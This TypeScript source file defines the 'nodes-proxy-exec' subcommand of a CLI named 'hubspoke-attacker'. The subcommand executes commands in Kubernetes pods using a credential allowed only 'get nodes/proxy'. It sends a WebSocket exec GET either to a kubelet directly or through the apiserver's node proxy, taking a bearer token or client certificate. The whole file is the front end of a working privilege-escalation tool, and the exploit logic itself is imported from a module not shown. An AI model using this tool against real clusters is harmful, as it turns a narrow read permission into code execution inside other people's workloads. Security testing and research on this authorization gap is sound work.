// `hubspoke-attacker nodes-proxy-exec`: run a command in a pod with a credential allowed only `get
// nodes/proxy`, over a WebSocket GET, straight to a kubelet (--kubelet) or through the apiserver's nodes/proxy
// (--server and --node). Prints what ran or what refused it; exits 0 whenever the attempt was made.
import { readFile } from 'node:fs/promises';
import { Command, Option } from 'commander';
import { nodesProxyExec, type NodesProxyExecResult, type NodesProxyRoute } from '../nodes-proxy-exec/nodes-proxy-exec.ts';

interface NodesProxyExecFlags {
  kubelet?: string;
  server?: string;
  node?: string;
  token?: string;
  clientCertificate?: string;
  clientKey?: string;
  namespace: string;
  pod: string;
  container?: string;
  command: string;
  output: 'text' | 'json';
  timeout: number;
}

/** Adds the `nodes-proxy-exec` subcommand to `program`; returns the subcommand. */
export function addNodesProxyExecCommand(program: Command): Command {
  return program
    .command('nodes-proxy-exec')
    .description('Exec into a pod with only `get nodes/proxy`: a WebSocket exec is a GET, and the kubelet authorizes it as verb get.')
    .option('--kubelet <host:port>', 'go straight to this kubelet')
    .option('--server <url>', 'go through this apiserver’s nodes/<node>/proxy (with --node)')
    .option('--node <name>', 'the node whose kubelet the apiserver proxies to')
    .option('--token <token>', 'bearer token of the get-nodes/proxy identity')
    .option('--client-certificate <file>', 'client certificate (PEM) instead of a token')
    .option('--client-key <file>', 'key of --client-certificate (PEM)')
    .option('--namespace <ns>', 'the pod’s namespace', 'default')
    .requiredOption('--pod <name>', 'the pod')
    .option('--container <name>', 'the container (default: the pod’s name)')
    .option('--command <cmd>', 'command, split on spaces', 'id')
    .addOption(new Option('--output <format>', 'result format').choices(['text', 'json']).default('text'))
    .option('--timeout <ms>', 'bound of the attempt in milliseconds', (v: string) => Number(v), 10_000)
    .action(async (flags: NodesProxyExecFlags, command: Command) => {
      const route = routeOf(flags, command);
      if (Boolean(flags.clientCertificate) !== Boolean(flags.clientKey)) command.error('error: --client-certificate and --client-key go together');
      const read = async (file: string | undefined, flag: string): Promise<string | undefined> =>
        file ? readFile(file, 'utf8').catch((err: Error) => command.error(`error: cannot read ${flag} ${file}: ${err.message}`)) : undefined;
      const result = await nodesProxyExec({
        route,
        namespace: flags.namespace,
        pod: flags.pod,
        container: flags.container ?? flags.pod,
        command: flags.command.split(' ').filter(Boolean),
        credentials: { token: flags.token, clientCertificate: await read(flags.clientCertificate, '--client-certificate'), clientKey: await read(flags.clientKey, '--client-key') },
        timeoutMs: flags.timeout,
      });
      process.stdout.write(flags.output === 'json' ? `${JSON.stringify(result, null, 2)}\n` : formatResult(result));
    });
}

function routeOf(flags: NodesProxyExecFlags, command: Command): NodesProxyRoute {
  if (flags.kubelet && !flags.server) return { via: 'kubelet', kubelet: flags.kubelet };
  if (flags.server && flags.node && !flags.kubelet) return { via: 'apiserver', server: flags.server, node: flags.node };
  return command.error('error: give either --kubelet, or --server with --node');
}

/** The result for people: the verdict line, then the command's output when it ran. */
export function formatResult(result: NodesProxyExecResult): string {
  switch (result.outcome) {
    case 'executed':
      return `executed (101, ${result.subprotocol}) ${result.url}${result.failure ? ` [${result.failure}]` : ''}\n${result.output}`;
    case 'error':
      return `error ${result.url}: ${result.error}\n`;
    default:
      return `${result.outcome} (${result.status}) ${result.url}: ${result.text}\n`;
  }
}
